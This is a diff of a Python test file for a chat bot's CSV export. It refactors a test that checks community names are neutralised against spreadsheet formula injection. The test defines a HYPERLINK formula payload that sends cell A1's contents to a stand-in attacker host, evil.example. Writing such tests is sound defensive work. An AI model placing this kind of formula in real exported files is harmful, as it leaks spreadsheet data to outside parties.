@@ -12,10 +12,10 @@ from bot.__main__ import main
 from bot.csvsafe import safe_cell
 from bot.services.stats import build_report, export_csv
 from bot.storage.cases import CaseRepository
-from bot.storage.communities import CommunityRepository
 from bot.storage.db import Database
 from bot.storage.growth import GrowthRepository
 from bot.timeutil import epoch_now
+from tests.builders import add_supergroup
 from tests.unit.test_growth_report import CHAT, DAY, UNTIL, seed_month
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
@@ -67,15 +67,7 @@ def test_cases_csv_neutralises_names(tmp_path: Path) -> None:
         db = Database(tmp_path / "steward.db")
         await db.open()
         try:
-            await CommunityRepository(db).upsert(
-                chat_id=CHAT,
-                title=FORMULA,
-                type="supergroup",
-                is_forum=False,
-                username=None,
-                timezone="UTC",
-                language="en",
-            )
+            await add_supergroup(db, CHAT, FORMULA)
             cases = CaseRepository(db)
             now = epoch_now()
             await cases.open(
